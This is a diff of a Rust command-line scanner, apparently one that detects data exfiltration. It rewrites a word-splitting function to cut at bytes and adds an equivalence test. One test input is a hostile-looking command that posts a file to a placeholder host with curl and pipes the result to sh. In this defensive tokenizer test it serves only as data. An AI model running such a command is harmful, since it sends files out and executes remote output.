@@ -289,11 +289,24 @@ fn url_start(word: &str) -> Option<&str> {
     Some(&word[start..])
 }
 
+/// The words of a command line: the runs between ASCII whitespace and the shell's separators
+/// and redirections. Split at bytes (every separator is ASCII, so a cut never falls inside a
+/// character), without decoding the text a character at a time.
 fn words(text: &str) -> impl Iterator<Item = &str> {
-    text.split(|c: char| {
-        c.is_ascii_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '<' | '>')
+    let is_separator = |b: u8| {
+        b.is_ascii_whitespace() || matches!(b, b';' | b'&' | b'|' | b'(' | b')' | b'<' | b'>')
+    };
+    let bytes = text.as_bytes();
+    let mut at = 0;
+    std::iter::from_fn(move || {
+        let start = at + bytes[at..].iter().position(|&b| !is_separator(b))?;
+        let end = bytes[start..]
+            .iter()
+            .position(|&b| is_separator(b))
+            .map_or(bytes.len(), |len| start + len);
+        at = end;
+        Some(&text[start..end])
     })
-    .filter(|w| !w.is_empty())
 }
 
 /// Exfiltration by destination: a command that sends data (a `Send` pattern matched) and names
@@ -371,6 +384,30 @@ fn destination(word: &str) -> Option<&str> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn words_are_what_splitting_at_separator_characters_gives() {
+        let by_chars = |text: &str| -> Vec<String> {
+            text.split(|c: char| {
+                c.is_ascii_whitespace() || matches!(c, ';' | '&' | '|' | '(' | ')' | '<' | '>')
+            })
+            .filter(|w| !w.is_empty())
+            .map(str::to_string)
+            .collect()
+        };
+        for text in [
+            "",
+            " ",
+            "curl -d @f https://x.example/é?q=1 | sh",
+            ";;a&&b||(c)<d>e\tf\ng\rh\u{c}i\u{b}j",
+            "é;ü ö",
+            "  lead and trail  ",
+            "x",
+        ] {
+            let by_bytes: Vec<String> = words(text).map(str::to_string).collect();
+            assert_eq!(by_bytes, by_chars(text), "{text:?}");
+        }
+    }
 
     fn allow() -> Allowlist {
         Allowlist {
